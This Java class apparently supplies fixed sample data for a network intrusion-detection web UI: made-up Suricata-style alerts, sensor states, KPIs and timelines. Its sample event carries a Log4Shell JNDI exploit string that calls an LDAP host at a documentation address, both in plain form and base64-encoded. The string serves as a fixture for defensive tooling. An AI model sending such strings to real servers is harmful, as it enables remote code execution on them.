package io.netsentinel.webui;

import io.netsentinel.auth.Identity;
import io.netsentinel.auth.Role;
import io.netsentinel.detection.Alert;
import io.netsentinel.detection.AlertPage;
import io.netsentinel.detection.Change;
import io.netsentinel.detection.OpenCounts;
import io.netsentinel.detection.Status;
import io.netsentinel.detection.Timeline;
import io.netsentinel.events.Event;
import io.netsentinel.events.Fields;
import io.netsentinel.events.Severity;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;

/// Made-up alerts, sensors and figures: the same at every run.
final class Samples {
    static final Instant NOW = Instant.parse("2026-11-23T03:51:07.214Z");
    private static final String[] SIGNATURES = {
        "ET SCAN Suspicious inbound to MSSQL port 1433",
        "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
        "ET INFO Observed DNS Query to .top TLD",
        "ET WEB_SERVER SQL Errors in HTTP 200 Response (error in your SQL syntax)",
        "GPL SNMP public access udp",
        "SURICATA STREAM Packet with invalid timestamp",
        "ET MALWARE Cobalt Strike Beacon Observed",
        "ET SCAN Potential SSH Scan OUTBOUND",
        "ET POLICY curl User-Agent Outbound",
    };
    private static final int[] SCORES = {47, 99, 18, 47, 21, 0, 88, 62, 30};
    private static final String[] COUNTRIES = {"CN", "VN", "US", "NL", "", "BR", "UA", "FR", "ZA"};
    private static final String[] SENSORS = {"sur-edge-1", "sur-edge-2", "zeek-core", "sur-dmz"};

    private Samples() {}

    static Event event(int i) {
        Random random = new Random(i * 7L + 3);
        int kind = random.nextInt(SIGNATURES.length);
        Event.Builder event =
                Event.builder()
                        .put(Fields.ID, String.format("01JD%022d", i))
                        .put(
                                Fields.TIMESTAMP,
                                NOW.minusMillis(1_700L * i * (1 + i / 12)).toString())
                        .put(Fields.EVENT_KIND, "alert")
                        .put(Fields.RULE_NAME, SIGNATURES[kind])
                        .put(Fields.RULE_ID, String.valueOf(2_010_000 + kind * 3_512))
                        .put(Fields.RULE_CATEGORY, "Attempted Administrator Privilege Gain")
                        .put(Fields.OBSERVER_NAME, SENSORS[random.nextInt(SENSORS.length)])
                        .put(Fields.NETWORK_TRANSPORT, "tcp")
                        .put(Fields.NETWORK_PROTOCOL, "http")
                        .put(Fields.NETWORK_COMMUNITY_ID, "1:RTuEjJclvaBl5GoFM4t1nNU80Ik=")
                        .put(Fields.FLOW_ID, "977420991414517")
                        .put(
                                Fields.SOURCE_IP,
                                i % 17 == 5
                                        ? "2001:db8:4:7:2e0:81ff:fe52:9a6b"
                                        : "198.51.100." + random.nextInt(255))
                        .put(Fields.SOURCE_PORT, (long) (1_024 + random.nextInt(60_000)))
                        .putText(
                                Fields.SOURCE_GEO_COUNTRY_ISO_CODE,
                                COUNTRIES[random.nextInt(COUNTRIES.length)])
                        .put(Fields.SOURCE_BYTES, 1_719L)
                        .put(Fields.DESTINATION_BYTES, 34_802L)
                        .put(
                                Fields.DESTINATION_IP,
                                "10.0." + random.nextInt(18) + "." + random.nextInt(255))
                        .put(Fields.DESTINATION_PORT, (long) (i % 3 == 0 ? 8443 : 53))
                        .put(Fields.HTTP_REQUEST_METHOD, "GET")
                        .put(Fields.URL_ORIGINAL, "/?x=${jndi:ldap://198.51.100.7:1389/a}")
                        .put(
                                Fields.USER_AGENT_ORIGINAL,
                                "Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101")
                        .put(Fields.VULNERABILITY_ID, "CVE-2021-44228")
                        .put(Fields.NS_SCORE, (long) SCORES[kind])
                        .put(
                                Fields.NS_SCORE_WHY,
                                "Major 73 x confidence High 1.0 + known exploited 15")
                        .put(Fields.NS_SEVERITY, Severity.ofScore(SCORES[kind]).text())
                        .put(
                                Fields.NS_PAYLOAD,
                                "R0VUIC8/eD0ke2puZGk6bGRhcDovLzE5OC41MS4xMDAuNzoxMzg5L2F9IEhUVFAvMS4xDQpIb3N0OiAxMC4wLjE3LjM0OjgwODANClVzZXItQWdlbnQ6IE1vemlsbGEvNS4wDQoNCg==")
                        .put(
                                Fields.NS_PACKET,
                                "AAwp3q2+AAwpm1E4CABFAAA0EjRAAEAGAADAAAIBwAACAgA5AFAAAAAAAAAAAIAC+vDSAAAAAgQFtAEDAwgBAQQC")
                        .put(
                                Fields.RAW,
                                "{\"timestamp\":\"2026-11-23T03:51:07.214+0000\",\"event_type\":\"alert\",\"src_ip\":\"198.51.100.7\"}");
        return event.build();
    }

    static Alert alert(int i) {
        Event event = event(i);
        List<Change> history = new ArrayList<>();
        Status status = Status.OPEN;
        if (i % 9 == 4) {
            history.add(
                    new Change(
                            "c1",
                            "ack",
                            "alice",
                            NOW.minusSeconds(40),
                            "Known scanner of the audit team",
                            1));
            status = Status.ACKNOWLEDGED;
        } else if (i % 13 == 6) {
            history.add(
                    new Change(
                            "c1",
                            "note",
                            "bob",
                            NOW.minusSeconds(90),
                            "Seen on two hosts. Looks like the same actor as last week.",
                            1));
            history.add(new Change("c2", "escalate", "bob", NOW.minusSeconds(60), "", 2));
            status = Status.ESCALATED;
        }
        return new Alert(
                event,
                "k3v9x2pq",
                1_000 - i,
                event.timestamp().toEpochMilli() + 12,
                status,
                history.size(),
                history);
    }

    static AlertPage page(int n) {
        List<Alert> alerts = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            alerts.add(alert(i));
        }
        return new AlertPage(
                alerts, n < AlertsView.ROWS ? Optional.empty() : Optional.of("cursor"));
    }

    static OpenCounts open() {
        return new OpenCounts(
                Map.of(
                        Severity.CRITICAL,
                        8L,
                        Severity.HIGH,
                        29L,
                        Severity.MEDIUM,
                        81L,
                        Severity.LOW,
                        478L,
                        Severity.INFO,
                        12L));
    }

    static Timeline timeline(TimeRange range) {
        Random random = new Random(4);
        List<Timeline.Bucket> buckets = new ArrayList<>();
        long width = range.bucket().toMillis();
        long n = range.length().toMillis() / width;
        long from = Math.floorDiv(NOW.toEpochMilli(), width) * width - (n - 1) * width;
        for (int i = 0; i < n; i++) {
            int more = i > 58 && i < 64 ? 3 : 1;
            List<Long> counts =
                    List.of(
                            (10L + random.nextInt(10)) * more,
                            (11L + random.nextInt(9)) * more,
                            (6L + random.nextInt(8)) * more,
                            (3L + random.nextInt(5)) * more,
                            (long) random.nextInt(3) * more);
            buckets.add(new Timeline.Bucket(Instant.ofEpochMilli(from + i * width), counts));
        }
        return new Timeline(Instant.ofEpochMilli(from), range.bucket(), buckets);
    }

    static double[] trend(int seed, double base, double spread) {
        Random random = new Random(seed);
        double[] values = new double[40];
        for (int i = 0; i < values.length; i++) {
            values[i] = base + spread * random.nextDouble();
        }
        return values;
    }

    static Visitor visitor(String theme) {
        return new Visitor(
                "admin",
                "admin",
                true,
                true,
                "c5rfT0ken",
                theme,
                "",
                Optional.of(NOW.plusSeconds(28_800)));
    }

    static Identity admin() {
        return new Identity(
                "admin",
                Role.ADMIN,
                Identity.Kind.TOKEN,
                "t",
                List.of(),
                Optional.empty(),
                Optional.empty());
    }

    static Shell shell(PageHead head, String theme, AssetIndex assets) {
        return Shell.of(
                head,
                visitor(theme),
                assets,
                open(),
                List.of(new SavedView("01V", "Critical", "/alerts?severity=critical")),
                head.path());
    }

    static Map<String, Object> overview(String theme, AssetIndex assets) {
        TimeRange range = TimeRange.MINUTES_15;
        PageHead head =
                new PageHead(
                        "Overview",
                        "Overview",
                        "/",
                        "",
                        List.of(),
                        Window.of(range)
                                .form(
                                        NOW,
                                        List.of(
                                                TimeRange.MINUTES_15,
                                                TimeRange.HOUR,
                                                TimeRange.HOURS_6,
                                                TimeRange.DAY,
                                                TimeRange.WEEK)));
        Map<String, Object> model = new HashMap<>();
        model.put("shell", shell(head, theme, assets));
        model.put("at", new OverviewModel.At("k3v9x2pq", 1_000, NOW.toEpochMilli()));
        model.put("start", false);
        model.put("live", true);
        model.put("all", "/alerts");
        model.put("severities", OverviewModel.Level.all());
        model.put(
                "kpis",
                List.of(
                        OverviewModel.Kpi.of(
                                "kpi-rate",
                                "Events per second",
                                "1,881",
                                "",
                                trend(1, 1_700, 250),
                                "x"),
                        OverviewModel.Kpi.of(
                                "kpi-alerts",
                                "Alerts per minute",
                                "143",
                                "",
                                trend(2, 120, 50),
                                "x"),
                        OverviewModel.Kpi.of(
                                        "kpi-critical",
                                        "Open critical",
                                        "8",
                                        "",
                                        trend(3, 5, 3),
                                        "x")
                                .hot(true),
                        OverviewModel.Kpi.of(
                                "kpi-sensors",
                                "Sensors reporting",
                                "4",
                                "of 6",
                                trend(4, 4, 0),
                                "x"),
                        OverviewModel.Kpi.of(
                                "kpi-clients", "Connected clients", "47", "", trend(5, 40, 8), "x"),
                        OverviewModel.Kpi.of(
                                        "kpi-delivery",
                                        "Delivery p99",
                                        "8",
                                        "ms",
                                        trend(6, 4, 8),
                                        "x")
                                .measuredByBrowser()));
        model.put("timeline", OverviewModel.Chart.of(timeline(range), Window.of(range)));
        model.put("feed", AlertsModel.feed(page(14).alerts()));
        model.put("full", true);
        model.put(
                "sensors",
                OverviewModel.Sensors.of(
                        List.of(
                                sensor("sur-edge-1", "ok", "412", "", 1),
                                        sensor("sur-edge-2", "ok", "388", "", 1),
                                sensor("zeek-core", "ok", "951", "", 2),
                                        sensor("cowrie-dmz", "warn", "3.1", "", 48),
                                sensor("sur-dmz", "ok", "96", "0.4 % dropped", 1),
                                        sensor("pcap-lab", "bad", "0", "", 840))));
        model.put("open", OverviewModel.Open.of(open()));
        model.put(
                "sources",
                new OverviewModel.Sources(
                        "2 of 2 reading",
                        List.of(
                                new OverviewModel.Source(
                                        "eve.json",
                                        "/var/log/suricata/eve.json",
                                        "ok",
                                        "following",
                                        "800",
                                        100),
                                new OverviewModel.Source(
                                        "archive.eve.json",
                                        "/srv/archive.eve.json",
                                        "warn",
                                        "312.4 MiB behind, 68 % read",
                                        "21,400",
                                        68))));
        return model;
    }

    private static OverviewModel.Sensor sensor(
            String name, String state, String rate, String drops, int ago) {
        String word =
                switch (state) {
                    case "ok" -> "reporting";
                    case "warn" -> "late";
                    default -> "silent";
                };
        return new OverviewModel.Sensor(
                name, state, word, rate, drops, word, NOW.minusSeconds(ago));
    }

    static Map<String, Object> alerts(
            String theme, AssetIndex assets, Optional<Alert> opened, int n) {
        AlertsView view = AlertsView.DEFAULT;
        PageHead head =
                new PageHead(
                        "Alerts",
                        "Alerts",
                        "/alerts",
                        "",
                        view.kept(),
                        view.window().form(NOW, AlertsView.RANGES));
        AlertPage page = page(n);
        Map<String, Object> model = new HashMap<>();
        model.put("shell", shell(head, theme, assets));
        model.put("at", new OverviewModel.At("k3v9x2pq", 1_000, NOW.toEpochMilli()));
        model.put("start", false);
        model.put("watched", "");
        model.put("tools", AlertsModel.Tools.of(view, "", "", NOW));
        model.put("severities", OverviewModel.Level.all());
        model.put(
                "timeline",
                OverviewModel.Chart.of(
                        "All alerts over time", timeline(TimeRange.DAY), Window.of(TimeRange.DAY)));
        model.put("list", AlertsModel.ListView.of(view, page));
        model.put("chips", AlertsModel.chips(view, open()));
        model.put("rows", AlertsModel.rows(page.alerts()));
        model.put("opened", opened.isPresent());
        opened.ifPresent(alert ->
                model.put("alert", DetailModel.of(alert, view.href(), view.closed().href())));
        return model;
    }
}
